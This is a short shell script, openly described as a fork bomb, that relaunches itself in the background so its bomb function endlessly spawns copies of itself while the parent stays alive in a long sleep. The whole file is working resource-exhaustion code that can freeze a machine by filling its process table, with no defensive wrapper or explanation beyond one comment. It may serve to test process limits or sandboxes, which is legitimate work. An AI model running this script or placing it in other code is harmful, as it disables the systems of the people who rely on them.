#!/bin/sh
# A fork bomb. What was started first stays, so that nothing ends by itself.
bomb() { while :; do bomb & bomb & done; }
if [ "$1" = bomb ]; then
  bomb 2>/dev/null
else
  echo started
  ./forks.sh bomb &
  exec sleep 2000
fi
